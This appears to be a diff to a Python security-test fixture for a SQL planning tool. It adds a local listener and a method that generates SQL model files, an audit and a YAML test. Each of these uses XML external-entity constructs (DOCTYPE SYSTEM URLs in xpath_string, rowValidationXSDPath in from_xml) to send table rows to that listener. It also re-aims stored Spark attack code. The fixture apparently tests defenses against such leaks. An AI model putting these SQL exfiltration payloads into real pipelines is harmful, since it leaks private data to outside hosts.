@@ -13,6 +13,7 @@ from pathlib import Path
 from uuid import uuid4
 
 from tests.planner.engine.spark.attacks import ATTACKS as DOORS
+from tests.safety.listener import Listener
 
 ATTACKS = Path(__file__).with_name("attacks.py")
 SECRET = "planted-secret-3f9b"  # noqa: S105  # of nobody
@@ -83,6 +84,7 @@ class Scene:
         self.database = folder / "db.sock"
         self.sockets = [self._listen(str(self.database)), self._listen(f"\0{self.abstract}")]
         self.database.chmod(0o777)
+        self.listener = Listener()
 
     def targets(self) -> dict[str, str]:
         """What the attacks are told."""
@@ -96,12 +98,35 @@ class Scene:
         return {
             "lib/attacks.py": ATTACKS.read_text(),
             "lib/targets.py": f"TARGETS = {json.dumps(self.targets())}\n",
-            "lib/doors.py": f"CODE = { ({name: code for name, (code, _) in DOORS.items()})!r}\n",
+            "lib/doors.py": f"CODE = { ({name: self._aimed(code) for name, (code, _) in DOORS.items()})!r}\n",
             "models/attack.py": RUN,
             "models/door.py": DOOR,
             "macros/attack.py": RUN,
             "signals/attack.py": RUN,
         }
+
+    def leaks(self) -> dict[str, str]:
+        """The files of a pull request, without Python, whose SQL sends the rows of a table to the listener."""
+        text = f"concat('<!DOCTYPE a SYSTEM \"{self.listener.address}', id, '\"><a/>')"
+        call, xsd = f"xpath_string({text}, '/a')", f"map('rowValidationXSDPath', '{self.listener.address}')"
+        return {
+            "models/leak.sql": f"MODEL (name shop.leak, kind FULL);\nSELECT id, {call} AS x FROM shop.items\n",
+            "models/xsd.sql": "MODEL (name shop.xsd, kind FULL);\n"
+            f"SELECT from_xml(concat('<a>', id, '</a>'), 'a INT', {xsd}) AS x FROM shop.items\n",
+            "models/duck.sql": "MODEL (name shop.duck, kind FULL, dialect duckdb);\n"
+            f"SELECT {call} AS x FROM shop.items\n",
+            "models/made.sql": "MODEL (name shop.made, kind FULL);\n"
+            f"CREATE TEMPORARY FUNCTION f(id INT) RETURN {call};\nSELECT f(id) AS x FROM shop.items\n",
+            "models/held.sql": "MODEL (name shop.held, kind FULL, audits (forall(criteria := "
+            f"(xpath_string('<!DOCTYPE a SYSTEM \"{self.listener.address}\"><a/>', '/a') = 'x'))));\n"
+            "SELECT id FROM shop.items\n",
+            "tests/test_items.yaml": "test_items:\n  model: shop.items\n  outputs:\n    query:\n      query: |\n"
+            f"        SELECT {call} AS x FROM VALUES (1) AS t(id)\n",
+        }
+
+    def _aimed(self, code: str) -> str:
+        """An attack on Spark with the listener in place of its address."""
+        return code.replace("http://127.0.0.1/", self.listener.address)
 
     def written(self) -> dict[str, str]:
         """Every planted file as it is now."""
@@ -112,6 +137,7 @@ class Scene:
         """Let go of what answers and what waits."""
         for each in self.sockets:
             each.close()
+        self.listener.__exit__(None, None, None)
         self.victim.kill()
         self.victim.wait(10)
         with suppress(OSError):
